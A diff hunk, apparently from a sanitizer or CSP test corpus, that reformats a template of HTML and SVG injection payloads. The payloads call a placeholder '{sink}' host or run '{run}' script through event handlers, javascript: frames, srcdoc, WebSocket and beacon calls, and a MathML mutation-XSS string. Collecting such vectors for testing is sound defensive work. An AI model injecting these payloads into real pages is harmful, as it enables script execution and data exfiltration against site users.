@@ -43,12 +43,14 @@ new WebSocket("ws:{sink_host}/socket"); navigator.sendBeacon("{sink}/beacon"); {
 <input type=image src="{sink}/input.png" autofocus onfocus="{run}"><input value="secret">
 <video src="{sink}/video.mp4" poster="{sink}/poster.png" autoplay></video>
 <audio src="{sink}/audio.mp3" autoplay></audio><video><track src="{sink}/track" default></video>
-<object data="{sink}/object"></object><embed src="{sink}/embed"><applet code="{sink}/applet"></applet>
+<object data="{sink}/object"></object><embed src="{sink}/embed">
+<applet code="{sink}/applet"></applet>
 <iframe src="{sink}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
 <iframe src="javascript:{run}"></iframe><frameset><frame src="{sink}/frame"></frameset>
 <svg onload="{run}"><script>{run}</script><image href="{sink}/svg.png"/>
 <use href="{sink}/use.svg#x"/><foreignObject><iframe src="{sink}/foreign"></iframe></foreignObject>
-<animate onbegin="{run}" attributeName="x" dur="1s"/><a><set attributeName="href" to="{sink}/set"/></a>
+<animate onbegin="{run}" attributeName="x" dur="1s"/>
+<a><set attributeName="href" to="{sink}/set"/></a>
 <rect width="9" height="9" fill="url({sink}/fill.svg#x)" filter="url({sink}/filter.svg#x)"/></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
 </table></mtext></math>
